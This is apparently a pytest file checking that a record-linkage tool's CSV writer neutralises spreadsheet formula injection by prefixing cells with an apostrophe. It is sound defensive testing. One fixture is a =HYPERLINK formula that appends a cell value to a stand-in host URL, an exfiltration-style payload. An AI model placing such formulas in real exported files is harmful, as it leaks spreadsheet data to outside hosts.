"""`sharelog link`'s matches file is opened in spreadsheets: a request id that is a formula comes back as text."""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa

from sharelog.linkage import link, write_csv_atomically

from ..worlds import HAND_MADE_PUPILS
from .conftest import World, read_matches, write_requests

FORMULA = '=HYPERLINK("http://x.example/?"&C2,"click")'


def test_formula_ids_are_neutralised_in_the_matches_file(world: World, tmp_path: Path) -> None:
    amira = HAND_MADE_PUPILS[0]
    batch = write_requests(
        tmp_path / "requests.csv",
        [(FORMULA, *amira[1:]), ("@SUM(A1)", "Chidi", "Emeka", "Okonkwo", "2012-06-15", "M", "B12 9QX"),
         ("HO-1", "Olivia", "Rose", "Brennan", "2008-04-09", "F", "NG7 1AA")],
    )  # fmt: skip
    out = tmp_path / "matches.csv"
    link(requests=batch, register=world.register, model=world.model, out=out)
    matches = read_matches(out)
    assert set(matches) == {"'" + FORMULA, "'@SUM(A1)", "HO-1"}
    assert matches["'" + FORMULA]["pupil_id"] == "T-AMIRA"


def test_the_csv_writer_neutralises_text_and_leaves_numbers(tmp_path: Path) -> None:
    table = pa.table(
        {
            "request_id": ["=1+1", "-cmd", "plain", None],
            "match_probability": [0.5, -0.25, 1.0, None],
            "school_name": ["\tHidden", "+Sum", "St Mary's", ""],
        }
    )
    out = tmp_path / "out.csv"
    write_csv_atomically(table, out)
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [
        ["request_id", "match_probability", "school_name"],
        ["'=1+1", "0.5", "'\tHidden"],
        ["'-cmd", "-0.25", "'+Sum"],
        ["plain", "1.0", "St Mary's"],
        ["", "", ""],
    ]
